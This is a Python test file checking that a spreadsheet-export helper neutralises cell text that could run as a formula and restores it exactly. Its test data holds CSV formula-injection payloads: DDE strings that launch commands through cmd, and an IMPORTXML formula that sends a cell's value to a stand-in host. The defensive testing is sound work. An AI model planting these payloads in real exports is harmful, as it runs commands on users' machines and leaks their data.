"""Texts that spreadsheets might run get an apostrophe, and get rid of it exactly."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from firsthand.serving.exports.cells import make_inert, restore

DANGEROUS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://a.example\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=IMPORTXML(CONCAT(\"http://a.example/\",A1),\"//a\")", "=WEBSERVICE(\"http://a.example\")", "\t=1+1", "\r=1+1",
    "\n=1+1", "\tplain", "\rplain", "\nplain", " =1+1", "   \t  =1", "\u00a0=1", "\u3000=1", "\ufeff=1", "\u200b=1",
    "\u202e=1", "\x00=1", "\x1f=1", "\x7f=1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "﹦1", "﹢1", "﹣1", "﹫a", "⁼1",
    "₊1", "'=1", "''=1", "\"=1+1\"", "\" =1", "a;=1+1", "a;\"=1+1", "a\t=1", "a\r\n=1", "a\n  @SUM(A1)",
    "x;;;-1+cmd|'a'!A0",
    "’=1\n=1", "−1",
)  # fmt: skip
HARMLESS = (
    "",
    '",=1',
    "plain",
    "a = b",
    "5-4",
    "mail@example.org",
    "'quoted' words",
    "“=”",
    "a,=1",
    "don't",
    "1;2;3",
    "a\nb",
)
FORMULA = re.compile(r"[\s\x00-\x20\u200b\ufeff\u202e\x7f\"]*[=+\-@＝＋－＠﹦﹢﹣﹫⁼₊−]")


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_may_be_a_formula_does_not_stay_one(text: str) -> None:
    inert = make_inert(text)
    assert inert != text
    assert not any(FORMULA.match(piece) for piece in re.split(r"[;\t\r\n]", inert))
    assert inert[0] not in "=+-@\t\r\n"
    assert restore(inert) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert make_inert(text) == text == restore(text)


ALPHABET = st.text(alphabet=st.sampled_from("='+-@;\t\r\n\" ,a＝\u200b\ufeff"), max_size=30)


@given(st.one_of(ALPHABET, st.text()))
def test_taking_the_apostrophes_off_gives_the_exact_text(text: str) -> None:
    assert restore(make_inert(text)) == text


@pytest.mark.parametrize("piece", [" ", "'", ";", "=", "\t", "; ", "'\t", ";'", '"', "\u200b"])
def test_a_long_text_takes_linear_time(piece: str) -> None:
    text = piece * 200_000
    assert restore(make_inert(text)) == text
